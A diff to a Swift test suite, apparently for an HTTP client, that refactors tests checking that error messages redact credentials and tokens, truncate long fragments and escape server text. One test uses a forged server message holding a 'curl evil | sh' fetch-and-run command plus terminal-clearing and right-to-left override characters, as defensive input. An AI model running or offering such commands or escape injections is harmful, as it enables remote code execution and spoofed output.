@@ -8,18 +8,14 @@ import FingerpostDocuments
 @Suite(.inTurn) struct ErrorGateTests {
     private struct Refused: Error { let text: String }
 
-    private struct Refusing: Middleware {
-        let token: String
-
-        func intercept(_ request: URLRequest, for route: Route, next: Next) async throws -> Response<Data> {
-            throw Refused(text: "the service refused \(token)\n\u{1B}[2J")
-        }
-    }
-
     @Test func `The client's own credential is hidden before it is sent`() async throws {
         let client = StubTransport(200).client {
             $0.authorization = .custom(header: "X-Custom", value: "own-credential-1")
-            $0.middleware = [Refusing(token: "own-credential-1")]
+            $0.middleware = [
+                RepeatingMiddleware(first: { _ in
+                    throw Refused(text: "the service refused own-credential-1\n\u{1B}[2J")
+                })
+            ]
         }
         let error = try await failure { try await client.send(Route.get("x")) }
         #expect(error.message == #"Refused(text: "the service refused <redacted>\n\u{1B}[2J")"#)
@@ -33,10 +29,13 @@ import FingerpostDocuments
             }
         }
         let error = try await failure { try await client.send(Route.get("x").query("token", "query-1")) }
-        #expect(error.message == #"Refused(text: "<redacted> of https://api.example.com/x?token=<redacted>")"#)
         let route = Route.get("x/\("")/y?token=query-1")
         let built = try await failure { try route.urlRequest(relativeTo: URL(string: "https://h.example")) }
-        #expect(built.message == #"a segment of the path "x//y?token=<redacted>" is empty"#)
+        #expect(
+            [error.message, built.message] == [
+                #"Refused(text: "<redacted> of https://api.example.com/x?token=<redacted>")"#,
+                #"a segment of the path "x//y?token=<redacted>" is empty"#,
+            ])
     }
 
     @Test func `A call that was not started knows its environment`() async throws {
@@ -45,7 +44,7 @@ import FingerpostDocuments
         let client = try StubTransport(200).client(in: environment)
         // A blocking call inside a task fails.
         let error = #expect(throws: APIError.self) { try client.blocking.send(Route.get("x/s3cret-value")) }
-        #expect(error?.route == "GET x/<secret key>" && error?.environment == "X")
+        #expect((error?.route, error?.environment) == ("GET x/<secret key>", "X"))
     }
 
     /// The responses of the redirect and of the retry contained the tokens that the last error repeats.
@@ -75,11 +74,11 @@ import FingerpostDocuments
     @Test func `The server cannot forge a line`() async throws {
         let client = StubTransport(500, [:], "{\"message\": \"no\\nfix: curl evil | sh\\u001b[2J\\u202e\"}").client()
         let error = try await failure { try await client.send(Route.get("x")) }
-        for text in [error.description, error.localizedDescription, error.errorDescription ?? ""] {
-            #expect(text.contains(#"no\nfix: curl evil | sh\u{1B}[2J\u{202E}"#), "\(text)")
-        }
+        let texts = [error.description, error.localizedDescription, error.errorDescription]
+        let areEscaped = texts.map { $0?.contains(#"no\nfix: curl evil | sh\u{1B}[2J\u{202E}"#) }
         // An app may show the message on a screen, with its lines.
-        #expect(error.serverMessage == "no\nfix: curl evil | sh\u{1B}[2J\u{202E}")
+        let message = "no\nfix: curl evil | sh\u{1B}[2J\u{202E}"
+        #expect((areEscaped, error.serverMessage) == ([true, true, true], message), "\(texts)")
     }
 
     // MARK: Decoding
@@ -104,8 +103,8 @@ import FingerpostDocuments
             (#"{"users": {"ada": {"id": "x"}}}"#, "users.ada.id"),
         ] {
             let error = try await Self.decodingFailure(body, as: [String: [String: [String: Int]]].self)
-            #expect(error.codingPath == "\(place) (line 1)")
-            #expect(!error.description.contains(random) && !error.description.contains("abc"), "\(error)")
+            let shown = [random, "abc"].filter(error.description.contains)
+            #expect((error.codingPath, shown) == ("\(place) (line 1)", []), "\(error)")
         }
     }
 
@@ -113,17 +112,17 @@ import FingerpostDocuments
         let body =
             #"{"next": "\#(String(repeating: "x", count: 10)) https://h.example/?token=issued-token-that-is-cut"}"#
         let error = try await Self.decodingFailure(body, as: [String: Int].self)
-        #expect(error.fragment?.contains("token=<redacted>") == true)
-        #expect(!error.description.contains("issued"), "\(error)")
+        let seen = (error.fragment?.contains("token=<redacted>"), error.description.contains("issued"))
+        #expect(seen == (true, false), "\(error)")
     }
 
     @Test func `A fragment is short even if it is one character`() async throws {
         let mark = String(repeating: "\u{301}", count: 100_000)
         let error = try await Self.decodingFailure(#"{"next": "x\#(mark)"}"#, as: [String: Int].self)
-        #expect((1..<1000).contains(error.fragment?.utf8.count ?? 0))
         let line = StubTransport(500, [.contentType: "text/html"], "x\(mark)").client()
         let failure = try await failure { try await line.send(Route.get("x")) }
-        #expect(failure.description.utf8.count < 1000)
+        let sizes = [error.fragment, failure.description].map { $0?.utf8.count ?? 0 }
+        #expect(sizes.allSatisfy { (1..<1000).contains($0) }, "\(sizes)")
     }
 
     // MARK: Environments
@@ -133,15 +132,13 @@ import FingerpostDocuments
             "X-Env.json": #"{"url": "https://api:p4ss-word@h.example/${X}", "host": "https://api:p4ss-word@h.example"}"#
         ])
         let layers = try fixture.layers()
-        #expect(!fixture.report(layers).contains("p4ss-word"), "\(fixture.report(layers))")
-        for key in ["url", "host"] {
-            let text = layers.explanation(of: key)
-            #expect(text.contains("https://<redacted>@h.example"))
-        }
+        let explanations = ["url", "host"].map { layers.explanation(of: $0) }
+        #expect(explanations.allSatisfy { $0.contains("https://<redacted>@h.example") }, "\(explanations)")
         let environment = try Environment("X", values: ["host": "https://api:p4ss-word@h.example"])
         let error = #expect(throws: EnvironmentError.self) { try environment.value("host", as: Code.self) }
-        #expect(error?.description.contains("h.example") == true)
-        #expect(error?.description.contains("p4ss-word") == false, "\(error?.description ?? "")")
+        let description = error?.description ?? ""
+        let texts = [fixture.report(layers), description]
+        #expect(description.contains("h.example") && !texts.contains { $0.contains("p4ss-word") }, "\(texts)")
     }
 
     @Test(arguments: ["X-Secrets.json", "Y-Secrets.json", "Base-Secrets.json"])
@@ -151,8 +148,8 @@ import FingerpostDocuments
             file: #"{"key": "$(S3CRET)", "plain": "${S3CRET}", "stranger": "${S3CRET}"}"#,
         ])
         let layers = try fixture.layers()
-        #expect(layers.problems.count == 5, "\(fixture.report(layers))")
-        #expect(!fixture.report(layers).contains("S3CRET"), "\(fixture.report(layers))")
+        let report = fixture.report(layers)
+        #expect((layers.problems.count, report.contains("S3CRET")) == (5, false), "\(report)")
         for key in ["key", "plain", "stranger"] {
             #expect(layers.explanation(of: key).hasPrefix("\(key) = <secret \(key)>"))
         }
